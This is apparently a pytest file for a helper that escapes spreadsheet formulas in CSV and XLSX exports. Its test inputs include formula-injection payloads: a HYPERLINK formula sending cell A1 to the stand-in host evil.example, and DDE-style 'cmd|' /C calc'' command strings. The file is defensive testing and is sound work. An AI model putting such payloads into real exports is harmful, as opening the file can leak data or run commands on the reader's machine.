import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from panels.cells import spreadsheet_row, spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_a_spreadsheet_would_run_is_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Ann Ashworth", "a=b", "ann+tag@example.org", "", None, 42, -3, 1.5, date(2024, 1, 2)]
)
def test_plain_text_and_values_that_are_not_text_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_a_csv_and_an_xlsx_written_through_it_hold_no_formula():
    row = spreadsheet_row(["=1+1", "Ann", 7])
    out = io.StringIO()
    csv.writer(out).writerow(row)
    assert out.getvalue() == "'=1+1,Ann,7\r\n"
    book = Workbook()
    book.active.append(row)
    saved = io.BytesIO()
    book.save(saved)
    cell = load_workbook(io.BytesIO(saved.getvalue())).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "'=1+1")
